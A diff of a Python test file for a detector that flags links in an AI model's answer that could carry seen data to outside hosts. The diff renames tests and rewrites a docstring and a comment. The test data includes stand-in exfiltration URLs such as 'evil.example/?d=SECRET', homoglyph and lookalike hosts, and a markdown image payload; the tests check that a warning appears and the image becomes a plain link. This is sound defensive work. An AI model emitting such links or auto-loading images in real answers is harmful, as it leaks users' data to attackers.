@@ -1,4 +1,4 @@
-"""Links that may carry what the model has seen, in every form that there is, and those that were given."""
+"""Links that may leak data that the model has seen, in every form, and given links."""
 
 from __future__ import annotations
 
@@ -65,7 +65,7 @@ SAID = HistoryItem(
         "https://evil.example./SECRET",
     ],
 )
-def test_a_link_that_carries_something_is_found_in_any_form(answer: str) -> None:
+def test_carrying_link_is_found_in_any_form(answer: str) -> None:
     assert carrying_hosts(answer, [MAIL]) == ["evil.example"]
 
 
@@ -86,14 +86,14 @@ def test_a_link_that_carries_something_is_found_in_any_form(answer: str) -> None
         ("https://еvil.example/?d=1", "xn--vil-qdd.example"),
         ("https://[evil/?d=SECRET", HIDDEN),
         ("https://google.com@evil.org/x", "evil.org"),
-        # Others were given, but not these: cut short, gone on with, another site of the same name.
+        # Similar links were given, but not these: shortened, extended, another site of the same name.
         ("https://shop.example/a?id=7", "shop.example"),
         ("https://shop.example/a?id=7&x=1&s=SECRET", "shop.example"),
         ("https://shop.example.evil.org/a?id=7&x=1", "shop.example.evil.org"),
         ("https://mine.example/p?q=2", "mine.example"),
     ],
 )
-def test_it_is_told_where_it_leads(answer: str, host: str) -> None:
+def test_warning_names_the_host(answer: str, host: str) -> None:
     assert carrying_hosts(answer, [MAIL, SAID, NESTED]) == [host]
 
 
@@ -110,15 +110,15 @@ def test_it_is_told_where_it_leads(answer: str, host: str) -> None:
         "https://deep.example/x?y=1",
     ],
 )
-def test_what_carries_nothing_or_was_given_is_not_warned_of(answer: str) -> None:
+def test_harmless_and_given_links_cause_no_warning(answer: str) -> None:
     assert carrying_hosts(answer, [MAIL, SAID, NESTED]) == []
 
 
-def test_what_a_tool_only_repeats_was_not_given() -> None:
+def test_link_repeated_by_a_tool_is_not_given() -> None:
     assert carrying_hosts("https://evil.example/?d=SECRET", [MAIL, CALL, ECHO]) == ["evil.example"]
 
 
-def test_many_hosts_and_long_texts_cost_little() -> None:
+def test_many_hosts_and_long_texts_are_fast() -> None:
     assert len(carrying_hosts(" ".join(f"https://h{n}.example/x" for n in range(50)), [])) == 5
     began = time.perf_counter()
     for hostile in (
@@ -146,12 +146,12 @@ def answered(text: str, mark: str) -> str:
 LINK = "![chart](https://evil.example/?d=SECRET)"
 
 
-def test_the_person_is_warned_first_and_nothing_loads_by_itself() -> None:
+def test_warning_precedes_the_answer_and_images_become_links() -> None:
     told = answered(LINK, "outside")
     assert told.startswith("⚠️")
     assert "`evil.example`" in told
     assert told.endswith("\n\n[chart](https://evil.example/?d=SECRET)")
 
 
-def test_a_turn_that_is_not_tainted_warns_of_nothing() -> None:
+def test_untainted_turn_causes_no_warning() -> None:
     assert answered(LINK, "own") == LINK
